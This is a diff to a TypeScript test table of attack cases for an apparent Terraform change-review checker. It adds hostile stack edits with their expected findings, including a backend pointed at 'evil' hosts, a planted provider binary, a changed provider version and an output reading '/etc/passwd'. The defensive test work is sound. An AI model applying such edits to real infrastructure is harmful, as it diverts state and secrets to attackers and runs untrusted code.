@@ -152,6 +152,34 @@ const ATTACKS: readonly [title: string, head: Files, finding: string][] = [
     changed((stack) => (stack['terraform'] = { backend: { http: { address: 'https://evil.test' } } })),
     'critical unknown-backend',
   ],
+  [
+    'a backend where none was',
+    changed((stack) => (stack['terraform'] = { backend: { s3: { bucket: 'evil', key: 'k', region: 'r' } } })),
+    'high backend-changed',
+  ],
+  [
+    'HCP Terraform where nothing was',
+    changed((stack) => (stack['terraform'] = { cloud: { organization: 'evil', workspaces: { name: 'x' } } })),
+    'high backend-changed',
+  ],
+  [
+    'another version of a provider',
+    changed(
+      (stack) => (stack['terraform'] = { required_providers: { okta: { source: 'okta/okta', version: '1.0.0' } } }),
+    ),
+    'high required-providers-changed',
+  ],
+  [
+    'a program that Terraform takes for a provider',
+    { [STACK]: federation(), 'stacks/federation/terraform.d/plugins/terraform-provider-okta': '' },
+    'critical unknown-file',
+  ],
+  [
+    'a file of the one who plans, in an output',
+    changed((stack) => (stack['output'] = { k: { value: '${file("/etc/passwd")}' } })),
+    'high text-cannot-be-read',
+  ],
+  ['a variable in a tag', role({ tags: { k: '${var.x}' } }), 'high text-cannot-be-read'],
   ['a local value', changed((stack) => (stack['locals'] = { x: 1 })), 'critical unknown-block-type'],
   ['a module', changed((stack) => (stack['module'] = { x: { source: './x' } })), 'critical unknown-block-type'],
   ['an ephemeral resource', changed((stack) => (stack['ephemeral'] = { x: { y: {} } })), 'critical unknown-block-type'],
